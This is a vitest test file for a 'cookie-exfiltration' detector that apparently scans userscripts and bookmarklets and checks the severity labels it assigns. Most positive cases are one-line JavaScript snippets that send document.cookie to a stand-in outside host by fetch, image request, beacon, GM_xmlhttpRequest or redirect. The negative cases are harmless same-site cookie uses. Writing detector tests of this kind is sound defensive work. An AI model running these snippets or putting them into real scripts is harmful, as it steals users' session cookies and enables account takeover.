import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { cookieExfiltration } from "./cookie-exfiltration.ts";

describe("cookie-exfiltration", () => {
	test.each([
		[
			"a plain request",
			["critical 5"],
			userscript(["match https://shop.example/*"], `fetch("https://c.stranger.test/?c="+document.cookie)`),
		],
		[
			"an image",
			["critical 5"],
			userscript(
				["match https://shop.example/*"],
				`new Image().src="https://c.stranger.test/p.gif?"+encodeURIComponent(document.cookie)`,
			),
		],
		[
			"a beacon from a function far away",
			["critical 6"],
			userscript(
				["match https://shop.example/*"],
				`const read=()=>({state:document.cookie});
function save(x){navigator.sendBeacon("https://c.stranger.test/",JSON.stringify(x))}
setTimeout(()=>save(read()),10)`,
			),
		],
		[
			"a declared server after a click: still never",
			["critical 7"],
			userscript(
				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
				`const b=document.createElement("button");document.body.append(b);b.onclick=()=>GM_xmlhttpRequest({method:"POST",url:"https://api.helper.example/",data:document.cookie})`,
			),
		],
		["a bookmarklet that opens a page", ["critical 1"], `location.href="https://c.stranger.test/?"+document.cookie`],
		[
			"a server that it names as its own site by one more line",
			["critical 6"],
			userscript(
				["match *://*/*", "match https://c.stranger.test/*"],
				`fetch("https://c.stranger.test/?c="+document.cookie)`,
			),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(cookieExfiltration, code)).toEqual(expected);
	});

	test.each([
		[
			"the site itself",
			userscript(
				["match https://shop.example/*"],
				`fetch("/prefs?c="+document.cookie);fetch("https://api.shop.example/x",{headers:{c:document.cookie}})`,
			),
		],
		[
			"a cookie that only decides",
			userscript(
				["match https://shop.example/*"],
				`if(/dark=1/.test(document.cookie))fetch("https://cdn.stranger.test/dark.css")`,
			),
		],
		[
			"a cookie that is written",
			userscript(
				["match https://shop.example/*"],
				`document.cookie="theme=dark";fetch("https://cdn.stranger.test/dark.css")`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(cookieExfiltration, code)).toEqual([]);
	});

	test("data in an object that an unknown function received is possibly sent", () => {
		const code =
			'const all = tools.merge({ to: "https://c.stranger.test/" }, { text: document.cookie }); fetch(all.to);';
		expect(findIn(cookieExfiltration, code)).toEqual([]);
		const named = 'fetch("https://c.stranger.test/" + tools.merge({ a: 1 }, { text: document.cookie }).a);';
		expect(findIn(cookieExfiltration, named)).toEqual(["medium 1"]);
		expect(findIn(cookieExfiltration, 'fetch("https://c.stranger.test/" + tools.encrypt(document.cookie));')).toEqual([
			"critical 1",
		]);
	});
});
